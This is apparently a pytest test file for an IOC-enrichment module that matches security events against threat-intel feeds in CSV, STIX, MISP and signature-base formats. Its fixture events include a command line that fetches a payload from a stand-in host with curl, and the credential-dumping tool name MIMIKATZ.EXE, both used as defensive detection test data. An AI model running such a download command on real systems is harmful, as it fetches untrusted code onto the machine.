"""IOC feeds (CSV, plain, STIX 2.1, MISP, signature-base) and join-based matching."""

from __future__ import annotations

from pathlib import Path

import pyarrow as pa
import pytest

from kestrel.enrich import EnrichStage, IocEnricher, classify, load_feed, merge_feeds
from kestrel.events import SCHEMA, make_batch

ENRICH = Path(__file__).resolve().parents[1] / "fixtures" / "enrich"


def _events() -> pa.Table:
    rows = {
        "event_id": ["p", "n1", "n2", "d", "f", "c", "clean"],
        "class": ["process", "network", "network", "dns", "file", "process", "network"],
        "process_md5": ["44D88612FEA8A8F36DE82E1278ABB02F".lower(), *[None] * 6],
        "dst_ip": [None, "198.51.100.7", "203.0.113.54", None, None, None, "8.8.8.8"],
        "dns_query": [None, None, None, "www.evil.example.com", None, None, None],
        "file_name": [None, None, None, None, "MIMIKATZ.EXE", None, None],
        "process_cmdline": [*[None] * 5, "curl http://evil.example.com/payload.bin -o x", None],
    }
    return make_batch(rows, 7)


def test_csv_feed_types_and_bad_rows():
    feed = load_feed(ENRICH / "feed.csv")
    assert feed.counts() == {"md5": 1, "ip": 1, "cidr": 1, "domain": 1, "url": 1,
                             "filename": 1, "filename_regex": 0}  # fmt: skip
    assert feed.skipped == 1


def test_each_family_matches_with_indicator_source_and_field():
    out = IocEnricher(load_feed(ENRICH / "feed.csv")).enrich(_events())
    got = {r["event_id"]: (r["ioc_type"], r["ioc_indicator"], r["ioc_field"])
           for r in out.to_pylist()}  # fmt: skip
    assert got["p"] == ("md5", "44d88612fea8a8f36de82e1278abb02f", "process_md5")
    assert got["n1"] == ("ip", "198.51.100.7", "dst_ip")
    assert got["n2"] == ("cidr", "203.0.113.0/24", "dst_ip")
    assert got["d"] == ("domain", "evil.example.com", "dns_query")  # parent domain
    assert got["f"] == ("filename", "mimikatz.exe", "file_name")  # case-insensitive
    assert got["c"] == ("url", "http://evil.example.com/payload.bin", "process_cmdline")
    assert got["clean"] == (None, None, None)
    assert out.schema == SCHEMA
    assert set(out.column("ioc_source").drop_null().to_pylist()) == {"feed.csv"}


def test_rows_keep_number_and_order():
    batch = _events()
    out = IocEnricher(load_feed(ENRICH / "feed.csv")).enrich(batch)
    assert out.column("event_id").to_pylist() == batch.column("event_id").to_pylist()


def test_stix_bundle():
    feed = load_feed(ENRICH / "stix_bundle.json")
    assert sorted(feed.indicators["type"].to_list()) == ["domain", "ip", "md5", "sha256", "url"]
    assert feed.skipped == 1  # the snort pattern


def test_misp_export_skips_non_ids_and_splits_composites():
    feed = load_feed(ENRICH / "misp_event.json")
    pairs = set(zip(feed.indicators["type"], feed.indicators["key"], strict=True))
    assert ("filename", "invoice.exe") in pairs
    assert ("md5", "0c2674c3a97c53082187d930efb645c2") in pairs
    assert not any(k == "192.0.2.1" for _, k in pairs)


def test_plain_list_and_merge_keeps_both_sources():
    feed = merge_feeds([load_feed(ENRICH / "feed.txt"), load_feed(ENRICH / "feed.csv")])
    assert set(feed.indicators["source"]) == {"feed.txt", "feed.csv"}
    batch = make_batch({"event_id": ["x"], "class": ["network"], "dst_ip": ["192.0.2.66"]}, 1)
    assert IocEnricher(feed).enrich(batch).column("ioc_source").to_pylist() == ["feed.txt"]


def test_empty_batch_and_empty_feed():
    empty = make_batch({}, 0)
    assert IocEnricher(load_feed(ENRICH / "feed.csv")).enrich(empty).num_rows == 0
    feed = load_feed(ENRICH / "feed.txt").indicators.clear()
    from kestrel.enrich import IocFeed

    assert IocEnricher(IocFeed(feed)).enrich(_events()).column("ioc_type").null_count == 7


def test_stage_scores_ioc_hits():
    out = EnrichStage([IocEnricher(load_feed(ENRICH / "feed.csv"))])(_events())
    scores = dict(zip(out.column("event_id").to_pylist(), out.column("threat_score").to_pylist(),
                      strict=True))  # fmt: skip
    assert scores["p"] == 60.0 and scores["n1"] == 45.0 and scores["clean"] == 0.0


@pytest.mark.parametrize(
    ("value", "kind"),
    [("1.2.3.4", "ip"), ("2001:db8::1", "ip"), ("2001:db8::/32", "cidr"), ("evil.dll", "filename")],
)
def test_classify(value, kind):
    assert classify(value) == kind


@pytest.mark.datasets
def test_signature_base_iocs_as_a_feed(datasets):
    feed = load_feed(datasets / "yara_signature_base" / "signature_base_iocs.zip")
    counts = feed.counts()
    assert counts["sha256"] + counts["sha1"] + counts["md5"] > 3000
    assert counts["domain"] > 1000 and counts["filename_regex"] > 3000
    batch = make_batch(
        {"event_id": ["a", "b", "c"], "class": ["file", "network", "file"],
         "file_path": [r"C:\Windows\system32\usbclass.sys", None, r"C:\Users\a\notes.txt"],
         "dst_ip": [None, "58.64.143.244", None]}, 3)  # fmt: skip
    out = IocEnricher(feed).enrich(batch)
    assert out.column("ioc_type").to_pylist() == ["filename", "ip", None]
